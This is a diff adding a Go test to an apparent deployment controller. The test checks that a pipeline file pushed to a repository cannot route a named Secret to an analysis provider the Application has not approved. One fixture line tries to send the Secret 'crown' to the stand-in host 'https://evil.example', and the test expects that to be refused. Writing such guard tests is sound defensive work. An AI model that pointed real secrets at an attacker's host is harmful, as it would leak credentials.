@@ -290,6 +290,42 @@ spec:
 	}
 }
 
+// Whoever may push to a repository has no Secret sent anywhere by that: a file names one for what the Application has it used for itself.
+func TestAFileHasNoSecretSentWhereItsApplicationDoesNotSay(t *testing.T) {
+	const refused = `spec.pipeline.stages[0].with.metrics[0].secretRef.name: Forbidden: the Application does not say itself that Secret "crown" is for queries to "https://evil.example"`
+	file := func(metric string) map[string]string {
+		return map[string]string{"web/web.yaml": deployment, "web/app.pipecd.yaml": "apiVersion: pipecd.dev/v1beta1\nkind: KubernetesApp\nspec:\n  name: web\n" +
+			"  pipeline: {stages: [{name: ANALYSIS, with: {duration: 1m, metrics: [{query: up, interval: 1m, expected: {max: 1}, " + metric + "}]}}, {name: K8S_SYNC}]}\n"}
+	}
+	r := newRepository(t)
+	r.Commit("the first", file("provider: 'https://evil.example', secretRef: {name: crown}"))
+	w := newWorld(t, repositories(t), r.application("web"))
+	if got := says(w.turn(), v1alpha1.ApplicationRendered); !strings.Contains(got, refused) || !strings.Contains(got, "analysisSecrets") || w.revisionNames() != "" {
+		t.Fatalf("it says %q, want %q; revisions are %q", got, refused, w.revisionNames())
+	}
+	// That another server has it is no reason.
+	w.change(func(spec *v1alpha1.ApplicationSpec) {
+		spec.Source.Git.Pipecd = &v1alpha1.PipecdConfig{
+			AnalysisProviders: map[string]string{"prom": "https://prom.example"}, AnalysisSecrets: map[string]string{"prom": "crown"},
+		}
+	})
+	if got := says(w.turn(), v1alpha1.ApplicationRendered); !strings.Contains(got, refused) {
+		t.Errorf("it says %q, want %q", got, refused)
+	}
+	with := func() string { return string(w.latestSpec().Delivery.Pipeline.Stages[0].With.Raw) }
+	for _, metric := range []string{"provider: 'https://prom.example', secretRef: {name: crown}", "provider: prom"} {
+		r.Commit(metric, file(metric))
+		if got := w.turn(); w.revisionNames() != "web-v1" || !strings.Contains(with(), `"provider":"https://prom.example"`) || !strings.Contains(with(), `"secretRef":{"name":"crown"}`) {
+			t.Fatalf("%s: revisions are %q: %s", metric, w.revisionNames(), says(got, v1alpha1.ApplicationRendered))
+		}
+	}
+	// It counts from then on that the Application says otherwise, and not with the next commit.
+	w.change(func(spec *v1alpha1.ApplicationSpec) { spec.Source.Git.Pipecd.AnalysisSecrets = nil })
+	if w.turn(); w.revisionNames() != "web-v1 web-v2" || strings.Contains(with(), "secretRef") {
+		t.Errorf("revisions are %q, the last one with %s", w.revisionNames(), with())
+	}
+}
+
 // changesOf are the files that a revision is said to change, and whether that is known.
 func (w *world) changesOf(revision string) (string, bool) {
 	w.Helper()
